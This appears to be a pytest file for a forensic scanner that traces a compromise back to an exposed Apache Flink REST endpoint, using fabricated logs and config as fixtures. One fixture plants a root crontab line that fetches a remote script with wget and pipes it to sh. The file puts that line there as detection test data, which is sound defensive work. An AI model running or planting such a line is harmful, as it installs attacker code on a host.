"""A scan reads logs where there is an incident, and only there; a capsule of it tells the same door."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from davy import capsule
from davy.collect import logs
from davy.correlate import correlate
from davy.detect import detect
from davy.host import at
from davy.model.incidents import Door, Judgement
from davy.model.snapshot import Snapshot
from davy.scan import scan

SUBMITTED = 1_602_904_664.464
"""2020-10-17 03:17:44.464, the seed's own time, in UTC."""
LOG = """\
2020-10-17 00:09:40,372 WARN  org.apache.flink.runtime.dispatcher.DispatcherRestEndpoint   [] - Unhandled exception
java.io.IOException: Connection reset by peer
\tat sun.nio.ch.FileDispatcherImpl.read0(Native Method) ~[?:?]
2020-10-17 03:17:44,446 WARN  org.apache.flink.runtime.webmonitor.handlers.JarRunHandler   [] - Configuring the job \
submission via query parameters is deprecated. Please migrate to submitting a JSON request instead.
2020-10-17 03:17:44,464 INFO  org.apache.flink.client.ClientUtils                          [] - Starting program \
(detached: true)
2020-10-17 03:17:44,486 ERROR org.apache.flink.runtime.webmonitor.handlers.JarRunHandler   [] - Exception occurred in \
REST handler: No jobs included in application.
"""
ATTEMPT = """\
2020-10-17 03:17:40,486 ERROR org.apache.flink.runtime.webmonitor.handlers.JarUploadHandler   [] - Exception occurred \
in REST handler: Only Jar files are allowed.
"""


def tree(folder: Path, *, log: str = LOG, guilty: bool = True, written: float = SUBMITTED + 20) -> Path:
    """A root in which Flink stood open, and perhaps a line of cron that came of it."""
    files = {
        "etc/passwd": "root:x:0:0:root:/root:/bin/bash\n",
        "opt/flink/conf/config.yaml": "rest.bind-address: 0.0.0.0\nrest.port: 8081\n",
        "opt/flink/log/flink-root-standalonesession-0-box.log": log,
        "var/spool/cron/crontabs/root": (
            "* * * * * wget -q -O - http://203.0.113.9/unk.sh | sh > /dev/null 2>&1\n" if guilty else "@daily true\n"
        ),
    }
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    os.utime(folder / "var/spool/cron/crontabs/root", (written, written))
    return folder


def looked_at(folder: Path) -> tuple[Snapshot, Judgement]:
    return scan(at(str(folder)))


def door_of(judgement: Judgement) -> Door:
    (incident,) = judgement.incidents
    assert incident.door is not None, incident.other_doors
    return incident.door


def test_the_seed_s_log_names_flink_with_the_lines_as_they_stand(tmp_path: Path) -> None:
    _, judgement = looked_at(tree(tmp_path))
    door = door_of(judgement)
    lines = [line for line in LOG.splitlines() if line.startswith("2020-10-17 03:17")]
    assert (door.kind, door.time) == ("flink", pytest.approx(SUBMITTED))
    assert list(door.evidence[:3]) == lines
    assert any("rest.bind-address: 127.0.0.1" in line for line in door.fix)
    assert not any("Connection reset" in line for line in door.evidence)


def test_a_line_that_shows_success_stands_for_the_beginning_where_the_times_were_set_back(tmp_path: Path) -> None:
    snapshot, judgement = looked_at(tree(tmp_path, written=SUBMITTED + 400 * 86_400))
    assert door_of(judgement).kind == "flink"
    assert any(read.path.endswith("box.log") for read in snapshot.logs_read)


def test_an_attempt_names_no_door_and_the_exposure_is_told_all_the_same(tmp_path: Path) -> None:
    _, judgement = looked_at(tree(tmp_path, log=ATTEMPT))
    (incident,) = judgement.incidents
    assert incident.door is None
    assert [door.kind for door in incident.other_doors] == ["flink"]
    assert [exposure.kind for exposure in judgement.exposures] == ["flink"]
    assert incident.keep


def test_where_there_is_no_incident_no_log_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refused(*_: object) -> None:
        raise AssertionError("a log is read")

    monkeypatch.setattr(logs, "log_facts", refused)
    snapshot, judgement = looked_at(tree(tmp_path, guilty=False))
    assert judgement.incidents == ()
    assert snapshot.logs_read == ()


def test_a_capsule_tells_the_same_door_and_the_same_timeline(tmp_path: Path) -> None:
    snapshot, judgement = looked_at(tree(tmp_path))
    again = capsule.unpacked(capsule.packed(snapshot))
    replayed = correlate(again, detect(again))
    assert replayed.incidents == judgement.incidents
